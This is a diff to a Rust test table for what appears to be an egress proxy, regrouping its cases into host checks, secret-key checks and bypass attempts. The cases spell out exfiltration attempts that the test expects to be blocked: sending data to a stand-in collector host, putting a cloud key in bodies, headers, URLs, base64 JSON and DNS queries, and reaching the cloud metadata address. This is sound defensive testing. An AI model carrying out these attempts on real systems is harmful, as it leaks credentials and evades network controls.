@@ -53,86 +53,109 @@ const fn get(url: &'static str) -> Fetch {
     }
 }
 
+/// Every attempt, in the order in which the table tells them.
 pub(super) fn all() -> Vec<Step> {
-    use Attempt::{Direct, Proxied, Question};
-    use Expected::{NoAnswer, Passed, Refused};
-    let step = |what, attempt, expected| Step {
+    let mut steps = hosts();
+    steps.extend(keys());
+    steps.extend(ways_around());
+    steps
+}
+
+fn step(what: &'static str, attempt: Attempt, expected: Expected) -> Step {
+    Step {
         what,
         attempt,
         expected,
-    };
-    let secret = || Refused(Rule::Secret);
+    }
+}
+
+fn hosts() -> Vec<Step> {
     vec![
         step(
             "a permitted call; the real key is added outside",
-            Proxied(Fetch {
+            Attempt::Proxied(Fetch {
                 headers: &["Authorization: Bearer {token}"],
                 ..get("https://api.example.com/v1/me")
             }),
-            Passed,
+            Expected::Passed,
         ),
         step(
             "a host that is not on the list",
-            Proxied(get("https://collector.example.net/drop")),
-            Refused(Rule::UnknownHost),
+            Attempt::Proxied(get("https://collector.example.net/drop")),
+            Expected::Refused(Rule::UnknownHost),
         ),
+    ]
+}
+
+fn keys() -> Vec<Step> {
+    let refused = |what, fetch| {
         step(
+            what,
+            Attempt::Proxied(fetch),
+            Expected::Refused(Rule::Secret),
+        )
+    };
+    vec![
+        refused(
             "a cloud key in a body",
-            Proxied(Fetch {
+            Fetch {
                 data: Some("note=done&k={key}"),
                 ..get("https://api.example.com/v1/notes")
-            }),
-            secret(),
+            },
         ),
-        step(
+        refused(
             "a cloud key in a header",
-            Proxied(Fetch {
+            Fetch {
                 headers: &["X-Trace: {key}"],
                 ..get("https://api.example.com/v1/me")
-            }),
-            secret(),
+            },
         ),
-        step(
+        refused(
             "a cloud key in a URL",
-            Proxied(get("https://api.example.com/v1/search?q={key}")),
-            secret(),
+            get("https://api.example.com/v1/search?q={key}"),
         ),
-        step(
+        refused(
             "the key in base64, inside JSON",
-            Proxied(Fetch {
+            Fetch {
                 headers: &["Content-Type: application/json"],
                 data: Some(r#"{"image":{"data":"{key64}"}}"#),
                 ..get("https://api.example.com/v1/notes")
-            }),
-            secret(),
+            },
         ),
+    ]
+}
+
+fn ways_around() -> Vec<Step> {
+    let raw = |what, url| {
+        step(
+            what,
+            Attempt::Direct(get(url)),
+            Expected::Refused(Rule::RawAddress),
+        )
+    };
+    vec![
         step(
             "a program that ignores the proxy variables",
-            Direct(get("https://collector.example.net/drop")),
-            Refused(Rule::UnknownHost),
+            Attempt::Direct(get("https://collector.example.net/drop")),
+            Expected::Refused(Rule::UnknownHost),
         ),
         step(
             "data in a DNS question",
-            Question("{key}.collector.example.net"),
-            NoAnswer,
+            Attempt::Question("{key}.collector.example.net"),
+            Expected::NoAnswer,
         ),
-        step(
-            "a connection to a bare address",
-            Direct(get("http://203.0.113.9/drop")),
-            Refused(Rule::RawAddress),
-        ),
-        step(
+        raw("a connection to a bare address", "http://203.0.113.9/drop"),
+        raw(
             "the cloud's metadata address",
-            Direct(get("http://169.254.169.254/latest/meta-data/")),
-            Refused(Rule::RawAddress),
+            "http://169.254.169.254/latest/meta-data/",
         ),
         step(
             "TLS to one host, Host of another",
-            Proxied(Fetch {
+            Attempt::Proxied(Fetch {
                 headers: &["Host: collector.example.net"],
                 ..get("https://api.example.com/drop")
             }),
-            Refused(Rule::HostMismatch),
+            Expected::Refused(Rule::HostMismatch),
         ),
     ]
 }
